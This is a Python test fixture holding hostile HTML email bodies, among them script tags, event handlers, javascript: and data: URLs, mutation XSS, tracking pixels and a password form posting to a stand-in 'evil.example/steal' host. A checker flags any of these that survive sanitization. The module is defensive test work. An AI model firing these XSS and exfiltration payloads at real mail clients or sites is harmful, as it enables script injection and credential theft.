"""Hostile HTML mail bodies and a checker that nothing executable or remote survived."""

from __future__ import annotations

from html.parser import HTMLParser

HOSTILE_HTML: dict[str, str] = {
    "script": '<p>Bonjour</p><script>alert(document.cookie)</script><SCRIPT SRC="http://evil.example/x.js"></SCRIPT>',
    "event_handlers": '<p onclick="alert(1)" onmouseover="steal()">Bonjour</p><body onload="alert(2)"><img src=x onerror="alert(3)">',
    "javascript_urls": '<a href="javascript:alert(1)">cliquez</a><a href="JaVaScRiPt&#58;alert(2)">ici</a><a href=" javascript:alert(3)">là</a><a href="vbscript:msgbox(1)">vb</a>',
    "data_urls": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "css": '<style>body{background:url(http://evil.example/track.png)} @import "http://evil.example/x.css";</style><p style="background-image:url(http://evil.example/p.png);behavior:url(x.htc)">texte</p><link rel="stylesheet" href="http://evil.example/x.css">',
    "svg_script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="http://evil.example/i.png"/><a xlink:href="javascript:alert(2)"><text>x</text></a><animate onbegin="alert(3)"/></svg><p>après</p>',
    "remote_images": '<p>Logo</p><img src="http://evil.example/logo.png" alt="logo"><img src="https://evil.example/pixel.gif" width="1" height="1"><img srcset="http://evil.example/a.png 1x"><picture><source srcset="http://evil.example/b.png"></picture>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/phish"><p>redirection</p>',
    "base": '<base href="http://evil.example/"><a href="/relatif">lien relatif</a><a href="//evil.example/proto">proto-relatif</a>',
    "form": '<form action="http://evil.example/steal" method="post"><label>Mot de passe <input type="password" name="p"></label><button formaction="http://evil.example/x">Valider</button></form><textarea>x</textarea>',
    "tracking_pixel": '<table background="http://evil.example/bg.png"><tr><td background="http://evil.example/td.png"><img src="http://t.evil.example/open?id=123" width="1" height="1" style="display:none"></td></tr></table>',
    "iframes_objects": '<iframe src="http://evil.example/"></iframe><object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf"><frameset><frame src="http://evil.example/"></frameset><video src="http://evil.example/v.mp4" poster="http://evil.example/p.png"></video><audio src="http://evil.example/a.mp3"></audio>',
    "mathml_and_templates": '<math><mi xlink:href="javascript:alert(1)">x</mi></math><template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    "mutation_xss": '<p>a</p><svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "comments_and_cdata": "<!--[if IE]><script>alert(1)</script><![endif]--><p>ok</p><![CDATA[<script>alert(2)</script>]]>",
    "attributes_dom_clobbering": '<a href="https://exemple.fr/" id="csrf_token" name="csrf_token" class="mail-nav" target="_top" ping="http://evil.example/ping" formaction="x">lien</a><img name="body" src="cid:x">',
    "encoded_entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a><a href="java&#x09;script:alert(1)">y</a>',
}

FORBIDDEN_TAGS = {
    "script", "style", "svg", "math", "iframe", "object", "embed", "frame", "frameset",
    "form", "input", "button", "textarea", "select", "meta", "base", "link", "video", "audio",
    "source", "picture", "template", "noscript", "image", "animate", "applet", "param",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "background", "poster",
                  "data", "ping", "xlink:href", "cite", "longdesc", "lowsrc", "dynsrc"}  # fmt: skip
SAFE_SCHEMES = ("https://", "http://", "mailto:", "tel:")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}")
            if name in ("style", "id", "name", "class") and tag != "span":
                self.problems.append(f"{tag} {name}={value!r}")
            if name == "target" and value != "_blank":
                self.problems.append(f"{tag} target={value!r}")
            if name in URL_ATTRIBUTES:
                if tag != "a" or name != "href":
                    self.problems.append(f"{tag} {name}={value!r}")  # nothing fetched
                elif not value.lower().startswith(SAFE_SCHEMES):
                    self.problems.append(f"a href={value!r}")
            if tag == "a" and name == "rel" and value != "noopener noreferrer":
                self.problems.append(f"a rel={value!r}")

    handle_startendtag = handle_starttag


def problems_in(fragment: str) -> list[str]:
    """Everything in ``fragment`` that could run script, fetch remote content or act on the page."""
    collector = _Collector()
    collector.feed(fragment)
    collector.close()
    lowered = fragment.lower()
    for needle in ("javascript:", "vbscript:", "data:", "url(", "@import", "expression("):
        if needle in lowered:
            collector.problems.append(f"text {needle!r}")
    return collector.problems
